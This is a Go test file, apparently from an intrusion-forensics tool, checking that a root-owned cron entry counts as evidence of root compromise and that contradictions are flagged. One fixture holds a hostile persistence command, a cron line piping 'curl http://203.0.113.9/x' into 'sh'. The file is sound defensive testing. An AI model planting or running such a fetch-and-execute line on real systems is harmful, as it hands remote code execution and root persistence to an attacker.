package story

import (
	"strings"
	"testing"

	"telltale/detect"
)

// TestRootByTraces: what only root can have left shows that root was reached, also where nobody is seen to become root, and no story says both.
func TestRootByTraces(t *testing.T) {
	roots := cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")
	for name, tc := range map[string]struct {
		f    detect.Finding
		root bool
	}{
		"an entry of root's": {roots, true},
		"an entry of bob's":  {with(roots, func(f *detect.Finding) { f.As, f.Path = "bob", "/var/spool/cron/crontabs/bob" }), false},
	} {
		s := Build(t.Context(), append(lie(), tc.f), full())
		check(t, &s)
		if got := s.Verdict.Root != nil && *s.Verdict.Root; got != tc.root || strings.Contains(s.Verdict.Summary, "No sign was found") == tc.root {
			t.Errorf("%s: root %v: %s", name, got, s.Verdict.Summary)
		}
		for _, x := range s.Exposed {
			if x.Status != Possible {
				t.Errorf("%s: %s was exposed, %s, though that there was an intruder is only possible", name, x.Path, x.Status)
			}
		}
	}
	s := Build(t.Context(), append(lie(), roots), full())
	s.Verdict.Root = nil
	if len(s.Contradictions()) == 0 {
		t.Error("no sign of root and a cron entry of root's are no contradiction")
	}
}
